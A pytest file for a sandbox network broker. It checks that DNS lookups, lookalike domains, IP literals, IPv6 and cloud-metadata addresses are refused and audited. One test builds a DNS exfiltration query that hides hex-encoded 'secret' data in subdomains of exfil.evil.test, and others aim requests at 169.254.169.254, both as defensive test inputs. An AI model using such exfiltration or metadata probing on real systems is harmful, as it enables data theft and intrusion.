"""The stub resolver and transparent capture for real: `stockade run` under bubblewrap, clients
inside that ignore the proxy variables (curl ``--noproxy '*'``, Python sockets, raw DNS
packets), the test servers of ``test_broker_sandbox`` in a network namespace, names mapped by
the broker's table resolver.  Every refusal is checked in the run's audit trail.

Needs root (``ip netns``) and bubblewrap; a path whose broker does not capture (its
listeners opened without the namespace's capabilities) is skipped with the reason.
"""

# ruff: noqa: F811  (the test functions take the `net` fixture imported from test_broker_sandbox)
from __future__ import annotations

import ipaddress
import json
import shutil
import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest

from stockade.runtime.broker import Broker, BrokerHooks
from stockade.runtime.session import RunOutcome

from .conftest import POLICY as CODING_AGENT
from .netns_hosts import netns_available
from .test_broker_sandbox import RUNNER, Net, _net_records, _run, net  # noqa: F401

pytestmark = pytest.mark.skipif(not netns_available() or shutil.which("bwrap") is None,
                                reason="needs root (ip netns) and bubblewrap")

HERE = Path(__file__).resolve().parent
POOL = ipaddress.ip_network("198.18.0.0/15")


class _Recording:
    """The test resolver, noting every name the broker asks it (what would reach a real resolver)."""

    def __init__(self, inner: object):
        self.inner = inner
        self.asked: list[str] = []

    def __call__(self, name: str) -> list[str]:
        self.asked.append(name)
        return self.inner(name)  # type: ignore[operator,no-any-return]


def _capturing(net: Net) -> _Recording:
    """Skip unless this path's broker captures; a recording resolver for the run."""
    seen: list[Broker] = []
    resolver = _Recording(net.resolver)
    _run(net, "true", hooks=BrokerHooks(resolver=resolver, on_start=seen.append))
    assert seen and seen[0].capture, "the broker's listeners were opened without the stub resolver and capture"
    return resolver


def _probe(net: Net, *args: str, resolver: _Recording | None = None) -> tuple[int | None, str, str]:
    shutil.copy(HERE / "netstub_probe.py", net.workspace / "netstub_probe.py")
    hooks = BrokerHooks(resolver=resolver or net.resolver)
    outcome, out, err = _run(net, "python3", "netstub_probe.py", *args, hooks=hooks)
    return outcome.exit_status, out, err


def _curl(net: Net, url: str) -> tuple[RunOutcome, str, str]:
    outcome, out, err = _run(net, "python3", "x.py", "curl", "-fsS", "--max-time", "20", "--noproxy", "*",
                             "--cacert", "ca.pem", url)
    return outcome, out, err


def test_allowed_names_reach_their_hosts_without_the_proxy(net: Net) -> None:
    _capturing(net)
    status, out, err = _probe(net, "resolve", "pypi.test")
    assert status == 0, out + err
    (fake,) = out.split()  # one IPv4 address (AAAA: no data), a fake one
    assert ipaddress.ip_address(fake) in POOL
    for url in ("https://pypi.test/hello.txt?capture-run", "http://pypi.test/hello.txt?capture-run",
                "https://api.example.test/hello.txt?capture-run"):
        outcome, out, err = _curl(net, url)
        assert (outcome.exit_status, out) == (0, "hello through the broker\n"), err
        (record,) = _net_records(net, url)
        assert (record["protocol"], record["decision"], record["address"]) == ("capture", "allow", net.host.address)
        assert record["host"] in url and record["bytes_received"] > 0 and record["rule"].startswith("allow ")
    status, out, err = _probe(net, "connect", "echo.test", "7", "ping-run")  # plain TCP
    assert (status, out) == (0, "echo:ping-run\n"), out + err
    (record,) = _net_records(net, "ping-run")
    assert (record["host"], record["port"], record["rule"]) == ("echo.test", 7, "allow echo.test:7")


@pytest.mark.parametrize("server", ["-", "127.0.0.53", "127.0.0.1", "192.0.2.53"])
def test_every_name_server_address_is_the_stub(net: Net, server: str) -> None:
    """Whatever name server the sandbox's resolv.conf names (the host's: a LAN address, a
    local stub such as systemd-resolved's 127.0.0.53), the answer comes from that address
    (clients connect their UDP socket and drop anything else), over UDP and TCP."""
    _capturing(net)
    for transport in ("udp", "tcp"):
        status, out, err = _probe(net, "query", "files.test", "1", server, transport)
        assert status == 0 and out.startswith("id=4242 rcode=0 answers=198.1"), out + err
        assert ipaddress.ip_address(out.strip().rsplit("=", 1)[1]) in POOL


def test_unlisted_and_lookalike_names_get_nxdomain_with_their_record(net: Net) -> None:
    _capturing(net)
    for name in ("evil.test", "github.com.evil.test", "example.test"):  # example.test: apex, not *.example.test
        url = f"https://{name}/hello.txt?nx-run"
        outcome, _, err = _curl(net, url)
        assert outcome.exit_status == 6 and "resolve" in err.lower(), err
        assert f"blocked: name lookup of {name} (no rule allows it at any port; default deny at" \
            in outcome.blocked[0], outcome.blocked
        records = _net_records(net, url)
        assert records and {(r["protocol"], r["host"], r["decision"]) for r in records} == {("dns", name, "deny")}
        assert records[0]["rule"] == "default deny" and records[0]["rule_at"].startswith(str(net.policy))


def test_literals_and_other_ports_are_refused_with_their_record(net: Net) -> None:
    _capturing(net)
    url = f"http://{net.host.address}/hello.txt?literal-run"
    outcome, out, _ = _curl(net, url)
    assert outcome.exit_status != 0 and "hello" not in out
    (record,) = _net_records(net, url)
    assert (record["protocol"], record["host"], record["port"], record["decision"]) == (
        "capture", net.host.address, 80, "deny")
    assert "judged as an address" in record["reason"]
    url = "http://files.test/hello.txt?port-run"  # the policy allows files.test:443 only
    outcome, out, _ = _curl(net, url)
    assert outcome.exit_status != 0 and "hello" not in out
    (record,) = _net_records(net, url)
    assert (record["protocol"], record["host"], record["port"], record["decision"]) == ("capture", "files.test", 80,
                                                                                        "deny")
    assert outcome.blocked == (f"blocked: files.test:80 ({record['reason']}; default deny at {record['rule_at']})",)
    # a port nothing captures: refused at once by the namespace, nothing to record; with the
    # connect handoff (stockade.runtime.handoff) judged at every port: allowed (`allow pypi.test`),
    # and recorded with the host's answer
    status, out, _ = _probe(net, "connect", "pypi.test", "8081", "nolistener-run")
    assert status == 3 and "ConnectionRefusedError" in out, out
    records = _net_records(net, "nolistener-run")
    assert records == [] or [(r["decision"], r.get("handed_over"), r.get("error")) for r in records] == [
        ("allow", None, "cannot connect: Connection refused")], records


def test_ipv6_literals_are_refused_with_their_record(net: Net) -> None:
    seen: list[Broker] = []
    _run(net, "true", hooks=BrokerHooks(resolver=net.resolver, on_start=seen.append))
    if not seen or not seen[0].capture_ipv6:
        pytest.skip("no capture on IPv6 on this path or kernel")
    for url in ("http://[2001:db8::5]/hello.txt?v6-run", f"https://[::ffff:{net.host.address}]/?v6-run"):
        outcome, out, err = _curl(net, url)
        assert outcome.exit_status != 0 and "hello" not in out, err
        records = _net_records(net, url)
        assert [(r["protocol"], r["decision"]) for r in records] == [("capture", "deny")], records
        assert "judged as an address" in records[0]["reason"]
    outcome, out, err = _run(net, "python3", "x.py", "curl", "-sS", "--max-time", "10",
                             f"http://[::1]:{net.loopback_port}/?v6-loopback-run")
    assert (outcome.exit_status, out) == (0, "host service\n"), err  # a granted host port on ::1 too
    (record,) = _net_records(net, "v6-loopback-run")
    assert (record["protocol"], record["decision"]) == ("host-loopback", "allow")
    status, out, err = _probe(net, "query", "pypi.test", "28")  # AAAA of an allowed name: no data
    assert (status, out) == (0, "id=4242 rcode=0 answers=\n"), out + err
    status, out, err = _probe(net, "query", "pypi.test", "1", "2001:db8::53")  # a v6 name server
    assert status == 0 and out.startswith("id=4242 rcode=0 answers=198.1"), out + err


def test_dns_exfiltration_is_answered_here_recorded_and_goes_nowhere(net: Net) -> None:
    resolver = _capturing(net)
    secret = "73656372657420646174612c2073656e74206f7574207468726f756768206120646e73206c6f6f6b75702e"
    name = f"{secret[:63]}.{secret[63:]}.exfil.evil.test"
    # a "real" resolver the sandbox might aim at: a UDP server on the test host's gateway address
    upstream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        upstream.bind((net.host.gateway, 53))
    except OSError as exc:
        upstream.close()
        pytest.skip(f"cannot listen on {net.host.gateway}:53 here: {exc}")
    received: list[bytes] = []
    upstream.settimeout(0.2)

    def listen() -> None:
        while not stop.is_set():
            try:
                received.append(upstream.recv(65535))
            except OSError:
                continue

    stop = threading.Event()
    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    try:
        for server, transport in (("-", "udp"), (net.host.gateway, "udp"), ("8.8.8.8", "tcp")):
            status, out, err = _probe(net, "query", name, "16", server, transport, resolver=resolver)
            assert (status, out) == (0, "id=4242 rcode=3 answers=\n"), out + err  # NXDOMAIN, here
    finally:
        stop.set()
        listener.join()
        upstream.close()
    assert received == []
    assert not any(secret[:20] in asked for asked in resolver.asked)
    records = _net_records(net, secret[:63])
    assert len(records) == 3 and all(r["host"] == name and r["decision"] == "deny" for r in records)
    assert {r["protocol"] for r in records} == {"dns", "dns-tcp"}


def test_malformed_dns_packets_do_not_break_the_broker(net: Net) -> None:
    _capturing(net)
    status, out, err = _probe(net, "garbage")
    lines = out.splitlines()
    assert status == 0 and len(lines) == 2, out + err
    assert lines[0].startswith("answered ") and not lines[0].startswith("answered 0 ")  # FORMERR for most
    assert lines[1].startswith("id=4242 rcode=0 answers=198.1"), out  # the stub still answers
    outcome, out, err = _curl(net, "https://pypi.test/hello.txt?after-garbage-run")
    assert (outcome.exit_status, out) == (0, "hello through the broker\n"), err
    assert not outcome.warnings, outcome.warnings


def test_a_refused_lookup_is_explained_and_listed(tmp_path: Path, cli_env: dict[str, str]) -> None:
    """As a user runs it (the coding-agent policy, the host's own resolver, which is never
    asked: the name is refused by the policy), a client that ignores the proxy variables."""
    workspace = tmp_path / "ws"
    workspace.mkdir()
    (workspace / "x.py").write_text(RUNNER)
    env = {**cli_env, "HOME": str(tmp_path / "home"), "TMPDIR": str(tmp_path / "tmp")}

    def stockade(*args: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "stockade", *args], env=env, cwd=workspace,
                              capture_output=True, text=True, timeout=120)

    done = stockade("run", "--policy", str(CODING_AGENT), "--workspace", str(workspace), "--approve", "--",
                    "python3", "x.py", "curl", "-sS", "--max-time", "10", "--noproxy", "*",
                    "https://github.com.evil.test/")
    if "blocked: github.com.evil.test:443" in done.stderr:
        pytest.skip("this run's broker does not capture (the proxy decided)")
    assert done.returncode == 6 and "Could not resolve host" in done.stderr, done.stderr
    default = next(i for i, line in enumerate(CODING_AGENT.read_text().splitlines(), 1) if "default deny" in line)
    blocked = [line for line in done.stderr.splitlines() if line.startswith("stockade: blocked:")]
    assert blocked == [f"stockade: blocked: name lookup of github.com.evil.test (no rule allows it at any port; "
                       f"default deny at {CODING_AGENT}:{default})"], done.stderr  # (A and AAAA: one record)
    audit = Path(cli_env["XDG_STATE_HOME"], "stockade", "audit.jsonl")
    listed = stockade("audit", str(audit), "--event", "net", "--format", "json")
    records = json.loads(listed.stdout)
    assert len(records) == 1 and all((r["protocol"], r["host"], r["decision"]) == ("dns", "github.com.evil.test", "deny")
                           for r in records)
    table = stockade("audit", str(audit), "--event", "net")
    assert "blocked name lookup of github.com.evil.test: no rule allows it at any port" in table.stdout, table.stdout


def test_allow_everything_captures_public_names_only(net: Net) -> None:
    """`default allow`: every name gets a fake address, and the connection is judged as the
    name — a public address passes, a name resolving to a private or metadata address does not."""
    _capturing(net)
    policy = net.root / "open-capture.policy"
    policy.write_text('policy "open"\nfilesystem {\n    read /\n    write $WORKSPACE\n}\n'
                      'network {\n    default allow\n}\ncommands {\n    unknown-effects allow\n}\n')
    url = "https://evil.test/hello.txt?open-capture-run"
    outcome, out, err = _run(net, "python3", "x.py", "curl", "-fsS", "--max-time", "20", "--noproxy", "*",
                             "--cacert", "ca.pem", url, policy=policy)
    assert (outcome.exit_status, out) == (0, "hello through the broker\n"), err
    (record,) = _net_records(net, url)
    assert (record["protocol"], record["decision"], record["rule"]) == ("capture", "allow", "default allow")
    for name, address, kind in (("lan.example.test", "10.99.0.1", "a private address"),
                                ("meta.example.test", "169.254.169.254", "a metadata address")):
        url = f"http://{name}/?open-capture-run"
        outcome, out, err = _run(net, "python3", "x.py", "curl", "-sS", "--max-time", "20", "--noproxy", "*", url,
                                 policy=policy)
        # reset once accepted (curl says "reset", or "couldn't connect" when the reset comes first)
        assert outcome.exit_status != 0 and ("reset" in err.lower() or "couldn't connect" in err.lower()), err
        (record,) = _net_records(net, url)
        assert (record["protocol"], record["host"], record["decision"], record["address"]) == (
            "capture", name, "deny", address)
        assert kind in record["reason"] and outcome.blocked[0].startswith(f"blocked: {name}:80 (resolves to")
